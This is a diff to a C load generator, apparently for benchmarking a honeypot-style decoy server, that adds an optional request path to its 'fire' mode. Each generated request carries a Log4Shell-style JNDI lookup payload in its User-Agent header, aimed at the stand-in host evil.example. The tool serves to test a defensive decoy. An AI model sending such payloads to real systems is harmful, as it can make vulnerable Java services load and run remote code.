@@ -1,7 +1,7 @@
 /* Load for the decoy, and what it is compared with:
  *
  *   decoy_load accept PORT               a bare epoll acceptor: takes a connection, reads once, closes
- *   decoy_load fire HOST PORT N          N requests with a payload, each closed at once; prints connections per second
+ *   decoy_load fire HOST PORT N [PAGE]   N requests with a payload, each closed at once; prints connections per second
  *   decoy_load hold HOST PORT N          N connections held until standard input ends; prints how many stand
  *   decoy_load delay HOST PORT N FILE    N requests one by one; prints the 50th and 99th percentile of microseconds until the line is in FILE
  */
@@ -63,12 +63,14 @@ static int serve(const char *port)
     }
 }
 
+static const char *page = "/";
+
 static int request(const struct sockaddr_in *a, unsigned long i)
 {
     char text[256];
     int fd = socket(AF_INET, SOCK_STREAM, 0);
     if (fd < 0 || connect(fd, (const struct sockaddr *)a, sizeof *a) != 0) return -1;
-    int n = snprintf(text, sizeof text, "GET /r%lu HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://evil.example/r%lu}\r\n\r\n", i, i);
+    int n = snprintf(text, sizeof text, "GET %sr%lu HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://evil.example/r%lu}\r\n\r\n", page, i, i);
     (void)!send(fd, text, (size_t)n, MSG_NOSIGNAL);
     (void)close(fd);
     return 0;
@@ -145,6 +147,7 @@ int main(int argc, char **argv)
     if (argc < 5) return 2;
     struct sockaddr_in a = address(argv[2], argv[3]);
     unsigned long n = strtoul(argv[4], NULL, 10);
+    if (strcmp(argv[1], "fire") == 0 && argc == 6) page = argv[5];
     if (strcmp(argv[1], "fire") == 0) return fire(&a, n);
     if (strcmp(argv[1], "hold") == 0) return hold(&a, n);
     if (strcmp(argv[1], "delay") == 0 && argc == 6) return delay(&a, n, argv[5]);
